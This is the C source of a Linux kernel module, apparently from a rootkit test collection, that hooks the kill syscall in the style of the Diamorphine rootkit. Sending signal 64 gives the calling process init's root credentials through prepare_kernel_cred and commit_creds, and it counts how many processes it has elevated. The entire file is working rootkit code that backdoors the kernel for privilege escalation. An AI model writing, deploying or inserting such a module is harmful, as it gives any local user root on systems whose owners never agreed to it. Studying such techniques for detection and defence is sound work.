// SPDX-License-Identifier: GPL-2.0
/*
 * rk_root: `kill -64 ANY` makes the caller root, Diamorphine's way:
 * kill reaches this module through a patched x64_sys_call branch, and
 * signal 64 commits prepare_kernel_cred(NULL) (init's credentials; NULL is
 * still accepted on 6.1) to the calling task. Other signals go to kill.
 */
#include <linux/cred.h>
#include "rk_common.h"

#define RK_MAGIC_SIG 64

static unsigned long granted;
module_param(granted, ulong, 0444);
MODULE_PARM_DESC(granted, "processes made root so far");

static long rk_root_kill(const struct pt_regs *regs);

static struct rk_dispatch patch = {
	.handler = "__x64_sys_kill",
	.hook = rk_root_kill,
};

static long rk_root_kill(const struct pt_regs *regs)
{
	long ret = 0;

	rk_enter();
	if ((int)regs->si == RK_MAGIC_SIG) {
		struct cred *c = prepare_kernel_cred(NULL);

		if (c) {
			commit_creds(c);
			granted++;
		} else {
			ret = -ENOMEM;
		}
	} else {
		ret = patch.orig(regs);
	}
	rk_leave();
	return ret;
}

static int __init rk_root_init(void)
{
	int ret = rk_init_kallsyms();

	return ret ? ret : rk_dispatch_patch(&patch);
}

static void __exit rk_root_exit(void)
{
	rk_dispatch_unpatch(&patch);
	rk_drain();
}

module_init(rk_root_init);
module_exit(rk_root_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("test rootkit technique: root by a magic signal");
